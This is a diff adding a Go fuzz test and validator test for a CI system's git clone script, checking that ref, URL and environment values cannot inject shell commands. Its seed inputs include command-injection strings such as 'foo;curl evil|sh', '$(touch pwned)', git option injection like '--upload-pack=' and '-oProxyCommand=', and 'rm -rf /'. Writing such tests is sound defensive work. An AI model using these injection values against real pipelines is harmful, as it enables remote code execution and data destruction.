@@ -0,0 +1,119 @@
+package main
+
+import (
+	"bytes"
+	"io/ioutil"
+	"os"
+	"os/exec"
+	"path"
+	"strings"
+	"testing"
+
+	"github.com/wangkuiyi/ci/db"
+)
+
+// fakeGit records its arguments and the environment variable V into
+// $GIT_LOG, one NUL terminated word each, instead of running git.
+const fakeGit = `#!/bin/bash
+for a in "$@"; do printf '%s\0' "$a" >> "$GIT_LOG"; done
+printf 'V=%s\0\n' "$V" >> "$GIT_LOG"
+if [ "$1" = clone ]; then mkdir -p repo; fi
+`
+
+func FuzzCloneScript(f *testing.F) {
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		f.Skip(err)
+	}
+
+	f.Add("refs/heads/master", "https://github.com/wangkuiyi/ci.git", "osx")
+	f.Add("foo;curl evil|sh", "https://github.com/a/b.git", `a"b`)
+	f.Add("$(touch pwned)", "`touch pwned`", "it's")
+	f.Add("foo' && touch pwned '", "url\" repo; touch pwned; \"", `$(touch pwned)`)
+	f.Add("refs/heads/a b\tc", "file:///tmp/a b", "\\\n")
+	f.Add("--upload-pack=touch pwned", "-oProxyCommand=touch pwned", "--")
+
+	f.Fuzz(func(t *testing.T, ref, cloneURL, v string) {
+		build := db.Build{Ref: ref, CloneURL: cloneURL, CommitSHA: "0123456789abcdef0123456789abcdef01234567"}
+		if checkBuild(build) != nil || strings.ContainsRune(v, 0) {
+			return
+		}
+
+		dir, err := ioutil.TempDir("", "script")
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer os.RemoveAll(dir)
+		bin := path.Join(dir, "bin")
+		err = os.Mkdir(bin, 0755)
+		if err != nil {
+			t.Fatal(err)
+		}
+		err = ioutil.WriteFile(path.Join(bin, "git"), []byte(fakeGit), 0755)
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		b, err := newBuilder(nil, nil, "", nil, nil, path.Join(dir, "build"), &setting{Env: map[string]string{"V": v}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		var script bytes.Buffer
+		err = b.bootstrapTpl.Execute(&script, struct{ Env map[string]string }{Env: b.env})
+		if err != nil {
+			t.Fatal(err)
+		}
+		err = b.pushEventCloneTpl.Execute(&script, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		log := path.Join(dir, "git.log")
+		cmd := exec.Command(bash, "-c", script.String())
+		cmd.Env = append(scriptEnv(build, dir, "", nil, "ci.sh"),
+			"PATH="+bin+":"+os.Getenv("PATH"),
+			"GIT_LOG="+log,
+		)
+		out, err := cmd.CombinedOutput()
+		if err != nil {
+			t.Fatal(string(out), err)
+		}
+
+		got, err := ioutil.ReadFile(log)
+		if err != nil {
+			t.Fatal(err)
+		}
+		expected := strings.Join([]string{
+			"clone", "--depth", "1", "--", cloneURL, "repo", "V=" + v, "\n" +
+				"fetch", "origin", ref, "V=" + v, "\n" +
+				"checkout", "-qf", build.CommitSHA, "V=" + v, "\n" +
+				"submodule", "update", "--init", "V=" + v, "\n",
+		}, "\x00")
+		if string(got) != expected {
+			t.Fatalf("%q\n%q", got, expected)
+		}
+		for _, p := range []string{path.Join(dir, "pwned"), path.Join(dir, "repo", "pwned")} {
+			if _, err := os.Stat(p); err == nil {
+				t.Fatal("injected command ran")
+			}
+		}
+	})
+}
+
+func TestCheckBuild(t *testing.T) {
+	sha := "0123456789abcdef0123456789abcdef01234567"
+	for _, b := range []db.Build{
+		{Ref: "-f", CloneURL: "url", CommitSHA: sha},
+		{Ref: "ref", CloneURL: "--upload-pack=sh", CommitSHA: sha},
+		{Ref: "ref\nrm -rf /", CloneURL: "url", CommitSHA: sha},
+		{Ref: "ref", CloneURL: "url", CommitSHA: "HEAD; rm -rf /"},
+		{Ref: "", CloneURL: "url", CommitSHA: sha},
+	} {
+		if checkBuild(b) == nil {
+			t.Fatal(b)
+		}
+	}
+	if err := checkBuild(db.Build{Ref: "foo;curl evil|sh", CloneURL: "url", CommitSHA: sha}); err != nil {
+		t.Fatal(err)
+	}
+}